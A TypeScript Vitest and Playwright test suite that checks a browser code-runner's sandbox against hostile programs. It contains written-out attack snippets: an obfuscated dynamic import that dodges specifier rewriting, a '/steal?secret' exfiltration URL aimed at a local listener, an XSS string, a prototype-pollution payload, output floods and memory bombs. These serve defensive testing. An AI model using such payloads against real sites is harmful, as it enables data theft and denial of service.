import { once } from 'node:events';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import { text } from 'node:stream/consumers';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import {
  addSession,
  findOutput,
  runInPage,
  runUnwatched,
  type PageRun,
} from './open-run-page.ts';
import { openSite, type Site } from './open-site.ts';
import { refused } from './refused.ts';

const name = 'v1/cancellation/shared-signal';
const secret = 'secret-of-the-site';

let site: Site;
let page: Page;
let errors: string[];
/** A server that would welcome anybody, and writes down who comes. */
let hostile: Server;
let url: string;
const visits: string[] = [];

beforeAll(async () => {
  hostile = createServer((request, response) => {
    visits.push(`${request.method} ${request.url}`);
    response.writeHead(200, {
      'access-control-allow-origin': '*',
      'content-type': 'text/javascript',
    });
    response.end('globalThis.reached = true;');
  });
  hostile.on('connection', () => visits.push('a connection'));
  await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve));
  const address = hostile.address();
  const port = typeof address === 'object' ? address?.port : undefined;
  url = `http://127.0.0.1:${port}`;
  site = await openSite();
  ({ page, errors } = await site.open('/cancellation/'));
  await page.evaluate((value) => {
    localStorage.setItem('secret', value);
    document.cookie = `secret=${value}`;
    const heard: unknown[] = [];
    Object.assign(window, { heard });
    new BroadcastChannel('site').onmessage = ({ data }) => heard.push(data);
    addEventListener('message', ({ data }) => heard.push(data));
  }, secret);
  const body = hostileRuntime;
  await page.route('**/run/runtime-v2.*.js', (route) =>
    route.fulfill({ body, contentType: 'text/javascript' }),
  );
  await addSession(page);
});
afterAll(async () => {
  await site.close();
  hostile.close();
  hostile.closeAllConnections();
});

afterEach(async () => {
  const run = await runInPage(page, { name, way: 'memory' });
  expect(run.outcome).toBe('finished');
  expect(findOutput(run)).toBe('found Dracula\nfound Middlemarch\n');
  expect(visits.splice(0)).toStrictEqual([]);
  const heard = await page.evaluate(
    () => Reflect.get(window, 'heard') as unknown,
  );
  expect(heard).toStrictEqual([]);
  expect(await page.title()).toContain('Runnable MCP');
});

function expectFlood(run: PageRun): void {
  expect(run.outcome).toBe('failed');
  expect(run.events.at(-1)).toMatchObject({
    type: 'fault',
    text: 'It sent more than the page accepts: 4,000 messages or 4 MB',
  });
}

test.each(Object.entries(refused))('a program gets no %s', async (_, code) => {
  const run = await attack(`try {
    console.log('got', ${code});
  } catch (error) {
    console.log('refused');
  }`);
  expect(findOutput(run)).toBe('refused\n');
});

test('an import() of another server is refused, which the text of a module may still hold', async () => {
  const run = await attack(`const load = 'import';
  const module = \`\${load}('\${url}').then(() => 'got it', () => 'refused').then((text) => (globalThis.answer = text))\`;
  await import(/* the rewriting sees no specifier */ 'data:text/javascript,' + encodeURIComponent(module));
  while (!globalThis.answer) await new Promise((resolve) => setTimeout(resolve, 5));
  console.log(globalThis.answer);`);
  expect(findOutput(run)).toBe('refused\n');
});

test('a program has an origin of its own, and no window', async () => {
  const run = await attack(
    `console.log(self.origin, typeof window, typeof document, typeof parent);`,
  );
  expect(findOutput(run)).toBe('null undefined undefined undefined\n');
});

test('a BroadcastChannel of a program does not reach the site', async () => {
  const run = await attack(`const channel = new BroadcastChannel('site');
  channel.onmessage = ({ data }) => console.log('heard', data);
  channel.postMessage('from the program');
  await new Promise((resolve) => setTimeout(resolve, 50));
  channel.close();
  console.log('alone');`);
  expect(findOutput(run)).toBe('alone\n');
});

test('a flood of output ends the run by itself', async () => {
  const run = await attack(`for (;;) console.log('x');`);
  expectFlood(run);
  expect(run.events.length).toBeLessThanOrEqual(4001);
});

test('an output that is too large ends the run by itself', async () => {
  const run = await attack(`console.log('x'.repeat(5_000_000)); for (;;);`);
  expectFlood(run);
});

test.for([
  ['arrays', 'new Array(1_000_000).fill(Math.random())'],
  // Buffers are outside the heap that V8 limits.
  ['buffers', 'new Uint8Array(100_000_000)'],
] as const)(
  'a bomb of %s ends, by itself or by Stop, and the next run works',
  async ([, filler]) => {
    const witness = createServer();
    await new Promise<void>((resolve) => witness.listen(0, resolve));
    const address = witness.address();
    const port = typeof address === 'object' ? address?.port : undefined;
    const other = await site.open('/cancellation/');
    await addSession(other.page);

    const bomb = `export async function run() {
  const all = [];
  for (;;) all.push(${filler});
}`;
    const runs = [
      { name, way: 'memory', edited: bomb, stopAfter: 2000 },
      { name, way: 'memory' },
    ] as const;
    const told = once(witness, 'request');
    await runUnwatched(other.page, [...runs], `http://localhost:${port}`);
    const [request] = (await told) as [IncomingMessage];
    const [ended, next] = JSON.parse(await text(request)) as [PageRun, PageRun];
    witness.close();
    witness.closeAllConnections();
    expect(ended.outcome).toMatch(/^(?:failed|stopped)$/);
    expect(findOutput(next)).toBe('found Dracula\nfound Middlemarch\n');
  },
);

test('self.close() ends the run', async () => {
  const run = await attack(`self.close();
  await new Promise((resolve) => setTimeout(resolve, 60_000));`);
  expect(run.outcome).toBe('failed');
  expect(run.events.at(-1)).toMatchObject({
    text: 'Error: close() ended the worker',
  });
});

/** What a worker does whose very runtime has been taken over. */
const hostileRuntime = `postMessage('ready');
const post = {
  flood: () => { for (;;) postMessage('{"type":"output","text":"x"}'); },
  objects: () => { for (;;) postMessage({ type: 'ended' }); },
  large: () => { postMessage('x'.repeat(5_000_000)); for (;;); },
  forge: () => { postMessage('{"type":"ended","outcome":"finished"}'); for (;;); },
  deaf: () => { postMessage('{"type":"stopping"}'); postMessage('{"type":"output","text":"go"}'); for (;;); },
  odd: () => {
    const entry = { from: 'client', message: { jsonrpc: '2.0', method: {} } };
    [
      'no json', '[]', 'null', '{"type":"html","text":"<img src=x onerror=alert(1)>"}',
      '{"type":"output","text":{"toString":1}}',
      '{"__proto__":{"polluted":true},"type":"output"}',
      JSON.stringify({ type: 'message', entry }),
      JSON.stringify({ type: 'ended', outcome: 'stopped' }),
      { type: 'end' }, { type: 'told', run: 1, text: '{}' }, 7, null, [],
    ].forEach((message) => postMessage(message));
    postMessage('{"type":"ended","outcome":"failed"}');
  },
};
addEventListener('message', ({ data }) => {
  if (!data.run) return;
  const [name] = Object.keys(post).filter((name) => data.run.snippet.text.includes('// ' + name));
  post[name]();
});`;

test.each(['flood', 'objects', 'large'])(
  'a worker that has been taken over ends by itself: %s',
  async (what) => expectFlood(await attackFrame(what)),
);

test('messages that are no events are dropped', async () => {
  const run = await attackFrame('odd');
  expect(run).toMatchObject({ outcome: 'failed', events: [] });
  const polluted = await page.evaluate(() => 'polluted' in {});
  expect(polluted).toBe(false);
});

test('a program that forges its end has ended', async () => {
  expect((await attackFrame('forge')).outcome).toBe('finished');
});

test('a program that says that it stops and does not is ended', async () => {
  const run = await attackFrame('deaf');
  expect(run.outcome).toBe('stopped');
});

test('no attack leaves an error of the page', () => {
  // What the policy of the frame refuses is reported there.
  const own = errors.filter(
    (text) => !/Content Security Policy|violates/i.test(text),
  );
  expect(own).toStrictEqual([]);
});

function attack(code: string, stopAfter?: number) {
  const edited = `export async function run() {
  const url = ${JSON.stringify(`${url}/steal?${secret}`)};
  const siteUrl = ${JSON.stringify(`${site.url}/`)};
  ${code}
}
`;
  const when = stopAfter === undefined ? {} : { stopAfter };
  return runInPage(page, { name, way: 'memory', edited, ...when });
}

function attackFrame(what: string) {
  const edited = `export async function run() {} // ${what}`;
  const wanted = {
    name: name.replace('v1', 'v2'),
    way: 'memory',
    edited,
  } as const;
  return runInPage(page, { ...wanted, stopAt: 'go' });
}
